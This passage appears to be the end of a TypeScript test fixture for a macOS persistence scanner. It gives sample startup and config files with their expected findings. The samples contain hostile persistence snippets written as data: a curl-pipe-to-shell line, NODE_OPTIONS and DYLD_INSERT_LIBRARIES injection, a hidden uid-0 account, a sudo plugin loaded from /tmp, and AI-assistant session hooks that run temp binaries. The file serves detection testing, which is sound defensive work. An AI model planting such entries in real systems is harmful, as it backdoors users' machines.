    path: `${home}/.git-templates/hooks/pre-commit`,
    home,
    content: '#!/bin/sh\n',
    items: [{ label: 'pre-commit' }],
  },
  {
    mechanism: 'npm-config',
    path: `${home}/.npmrc`,
    home,
    content:
      'registry=https://packages.example/\nnode-options=--require /Users/mara/.x/hook.js\nscript-shell=/private/tmp/sh\n',
    items: [
      { label: 'node-options', runs: ['/Users/mara/.x/hook.js'] },
      { label: 'script-shell', runs: ['/private/tmp/sh'] },
    ],
  },
  {
    mechanism: 'shell-startup',
    path: `${home}/.zshrc.zwc`,
    home,
    content: Buffer.concat([
      Buffer.from([7, 6, 5, 4, 1, 0]),
      Buffer.from('5.9\0/private/tmp/.x/run\0', 'latin1'),
    ]),
    items: [{ runs: ['/private/tmp/.x/run'], findings: ['compiled-script', 'program-in-tmp'] }],
  },
  {
    mechanism: 'shell-startup',
    path: `${home}/.config/fish/functions/fish_prompt.fish`,
    home,
    content: 'function fish_prompt\n  /Users/mara/.x/run\nend\n',
    items: [{ runs: ['/Users/mara/.x/run'] }],
  },
  {
    mechanism: 'editor-startup',
    path: `${home}/.vim/pack/x/start/y/plugin/z.vim`,
    home,
    content: "call system('/private/tmp/x')\n",
    items: [{ runs: ['/private/tmp/x'], findings: ['program-in-tmp'] }],
  },
  {
    mechanism: 'editor-startup',
    path: `${home}/.local/share/nvim/site/plugin/x.lua`,
    home,
    content: "os.execute('/private/tmp/x')\n",
    items: [{ findings: ['program-in-tmp'] }],
  },
  {
    mechanism: 'tool-startup',
    path: `${home}/.tmux.conf`,
    home,
    content: "set -g mouse on\nrun-shell '/private/tmp/x'\n",
    items: [{ runs: ['/private/tmp/x'], findings: ['program-in-tmp'] }],
  },
  {
    mechanism: 'tool-startup',
    path: `${home}/.lldbinit`,
    home,
    content: 'settings set target.x86-disassembly-flavor intel\nplatform shell /private/tmp/x\n',
    items: [{ runs: ['/private/tmp/x'], findings: ['program-in-tmp'] }],
  },
  {
    mechanism: 'tool-startup',
    path: `${home}/.hammerspoon/init.lua`,
    home,
    content: 'hs.execute("curl https://example.com/x | sh")\n',
    items: [{ findings: ['remote-script'] }],
  },
  {
    mechanism: 'assistant-hook',
    path: `${home}/.claude/settings.json`,
    home,
    content: `{
  "hooks": { "SessionStart": [{ "matcher": "", "hooks": [{ "type": "command", "command": "/private/tmp/x" }] }] },
  "env": { "NODE_OPTIONS": "--require /private/tmp/x.js", "EXAMPLE": "1" }
}`,
    items: [
      { label: 'hooks.SessionStart', runs: ['/private/tmp/x'], findings: ['program-in-tmp'] },
      { label: 'env.NODE_OPTIONS', findings: ['sets-environment'] },
    ],
  },
  {
    mechanism: 'python-startup',
    path: `${home}/Library/Python/3.9/lib/python/site-packages/x.pth`,
    home,
    content:
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n/opt/lib\nimport os; os.system('/private/tmp/x')\n",
    items: [{ label: 'x.pth', runs: ['/private/tmp/x'], findings: ['program-in-tmp'] }],
  },
  {
    mechanism: 'python-startup',
    path: `${home}/Library/Python/3.9/lib/python/site-packages/usercustomize.py`,
    home,
    content: "import subprocess\nsubprocess.run('/private/tmp/x')\n",
    items: [{ key: '', findings: ['program-in-tmp'] }],
  },
  {
    mechanism: 'log-rotation',
    path: '/private/etc/newsyslog.d/x.conf',
    content:
      '# logfilename [owner:group] mode count size when flags [/pid_file] [sig_num]\n/var/log/wifi.log 640 10 1000 * J\n/private/etc/sudoers.d/x mara:staff 666 1 1 * C\n/var/log/x.log 640 1 1 * R /private/tmp/x\n',
    items: [
      { key: '/private/etc/sudoers.d/x', findings: ['rotates-no-log'], as: 'root' },
      { key: '/var/log/x.log', runs: ['/private/tmp/x'], findings: ['program-in-tmp'] },
    ],
  },
  {
    mechanism: 'automount-map',
    path: '/private/etc/auto_master',
    content:
      '#\n+auto_master\n/home\t\t\tauto_home\t-nobrowse,hidefromfinder\n/Network/Servers\t-fstab\n/-\t\t\t-static\n/mnt /private/tmp/map\n',
    items: [{ label: '/mnt map', runs: ['/private/tmp/map'], as: 'root', findings: ['program-in-tmp'] }],
  },
  {
    mechanism: 'launchd-setting',
    path: '/private/var/db/com.apple.xpc.launchd/disabled.plist',
    content: xmlPlist({ 'com.openssh.sshd': false, 'com.apple.ftpd': true, 'com.example.x': false }),
    items: [{ label: 'com.openssh.sshd', enabled: true, findings: ['remote-access-on'] }],
  },
  {
    mechanism: 'launchd-setting',
    path: '/private/var/db/com.apple.xpc.launchd/config/user.plist',
    content: xmlPlist({ PathEnvironmentVariable: '/Users/mara/bin:/usr/bin:/bin' }),
    items: [{ findings: ['sets-environment', 'writable-search-path'] }],
  },
  {
    mechanism: 'user-template',
    path: '/Library/User Template/English.lproj/Library/LaunchAgents/com.example.x.plist',
    content: job('com.example.x'),
    items: [{ label: 'com.example.x', runs: ['/usr/local/bin/x'], when: ['login', 'load'] }],
  },
  {
    mechanism: 'sudoers',
    path: '/private/etc/sudo.conf',
    content:
      'Plugin sudoers_policy sudoers.so\nPlugin x_policy /private/tmp/x.so\nPath askpass /Users/mara/ask\nSet disable_coredump false\n',
    items: [
      { label: 'Plugin x_policy', runs: ['/private/tmp/x.so'], findings: ['program-of-setting'] },
      { label: 'Path askpass', runs: ['/Users/mara/ask'], findings: ['program-of-setting'] },
    ],
  },
  {
    mechanism: 'account',
    path: '/private/var/db/dslocal/nodes/Default/users/_helper.plist',
    content: user({ name: ['_helper'], uid: ['0'], shell: ['/usr/bin/false'] }),
    items: [{ label: '_helper', enabled: false, findings: ['root-by-another-name'] }],
  },
  {
    mechanism: 'account',
    path: '/private/var/db/dslocal/nodes/Default/groups/wheel.plist',
    content: user({ name: ['wheel'], users: ['root', 'mara'] }),
    items: [
      { label: 'root in wheel', findings: [] },
      { label: 'mara in wheel', findings: ['odd-member'] },
    ],
  },
  bundle('mail-bundle', `${home}/Library/Mail/Bundles/Example.mailbundle`),
  bundle('open-directory-module', '/Library/OpenDirectory/Modules/Example.xpc'),
  bundle('file-system', '/Library/Filesystems/example.fs'),
  bundle('program-plug-in', `${home}/Library/InputManagers/Example.bundle`),
  {
    mechanism: 'editor-extension',
    path: `${home}/.vscode/extensions/example.tool-1.0.0`,
    home,
    type: 'dir',
    inside: 'package.json',
    content: '{ "name": "tool", "publisher": "example", "main": "out/x.js", "activationEvents": ["*"] }',
    items: [
      {
        label: 'example.tool',
        runs: [`${home}/.vscode/extensions/example.tool-1.0.0/out/x.js`],
        when: ['host-program'],
      },
    ],
  },
  {
    mechanism: 'shell-startup',
    path: '/private/etc/paths.d/x',
    content: '/opt/homebrew/bin\n~/.dotnet/tools\n/Users/mara/bin\n',
    items: [{ label: '/Users/mara/bin', findings: ['writable-search-path'] }],
  },
  {
    mechanism: 'tool-startup',
    path: `${home}/.forward`,
    home,
    content: '"|/private/tmp/x"\n',
    items: [{ runs: ['/private/tmp/x'], findings: ['program-in-tmp'] }],
  },
  {
    mechanism: 'startup-script',
    path: '/Library/Preferences/Xsan/.xsanrc',
    content: '/private/tmp/x\n',
    items: [{ as: 'root', findings: ['program-in-tmp'] }],
  },
  {
    mechanism: 'assistant-hook',
    path: `${home}/.codex/config.toml`,
    home,
    content:
      'model = "x"\nnotify = ["/private/tmp/x", "--quiet"]\n[mcp_servers.a]\ncommand = "npx"\nargs = ["-y", "a"]\n[mcp_servers.b]\ncommand = "/Users/mara/b"\n',
    items: [
      { label: 'notify', runs: ['/private/tmp/x'], findings: ['program-in-tmp'] },
      { label: 'mcp_servers.a.command' },
      { label: 'mcp_servers.b.command', runs: ['/Users/mara/b'] },
    ],
  },
  {
    mechanism: 'editor-task',
    path: `${home}/Library/Application Support/Code/User/settings.json`,
    home,
    content: `{
  // profiles
  "terminal.integrated.profiles.osx": { "zsh": { "path": "zsh", "args": ["-l"] }, "x": { "path": "/private/tmp/x" } },
  "terminal.integrated.env.osx": { "DYLD_INSERT_LIBRARIES": "/private/tmp/x.dylib", "FOO": "1" },
}`,
    items: [
      { label: 'x', runs: ['/private/tmp/x'], findings: ['program-in-tmp'] },
      { findings: ['dyld-environment'] },
    ],
  },
  {
    mechanism: 'editor-startup',
    path: `${home}/.config/nvim/lua/config/options.lua`,
    home,
    content: "os.execute('/private/tmp/x')\n",
    items: [{ findings: ['program-in-tmp'] }],
  },
  {
    mechanism: 'shell-startup',
    path: `${home}/Library/Application Support/nushell/config.nu`,
    home,
    content: '/private/tmp/x\n',
    items: [{ findings: ['program-in-tmp'] }],
  },
];

export function fileOf(sample: Sample): MechanismFile {
  const { path, home: inHome, type = 'file', uid = 0, mode = 0o644, content } = sample;
  const bytes = Buffer.from(content);
  return { path, home: inHome, type, uid, mode, content: { bytes, size: bytes.length, truncated: false } };
}
